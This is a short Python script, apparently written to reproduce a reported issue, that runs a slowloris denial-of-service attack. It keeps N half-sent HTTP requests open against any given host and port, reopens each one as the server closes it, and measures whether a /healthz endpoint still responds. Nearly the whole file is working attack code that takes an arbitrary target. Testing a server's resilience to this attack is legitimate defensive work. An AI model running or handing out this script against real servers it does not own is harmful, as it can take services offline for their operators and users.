"""The issue-26 item-14 attack: N half-sent requests, each reopened as soon as
the server closes it, for SECS; /healthz polled every 0.5 s meanwhile.
Prints polls answered. Usage: slowloris.py HOST:PORT N SECS"""
import socket, sys, threading, time
host, port = sys.argv[1].split(':'); port = int(port)
n, secs = int(sys.argv[2]), float(sys.argv[3])
stop = time.time() + secs
def hold():
    while time.time() < stop:
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            s.settimeout(0.5)
            while time.time() < stop:
                try:
                    if s.recv(256) == b"":
                        break
                except socket.timeout:
                    continue
            s.close()
        except OSError:
            time.sleep(0.001)
threads = [threading.Thread(target=hold, daemon=True) for _ in range(n)]
for t in threads: t.start()
time.sleep(1)
ok = total = 0
while time.time() < stop:
    total += 1
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.settimeout(2)
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        if s.recv(64).startswith(b"HTTP/1.1 "):
            ok += 1
        s.close()
    except OSError:
        pass
    time.sleep(0.5)
print(f"/healthz answered {ok} of {total} polls under {n} reconnecting half-sent requests for {secs:.0f} s")
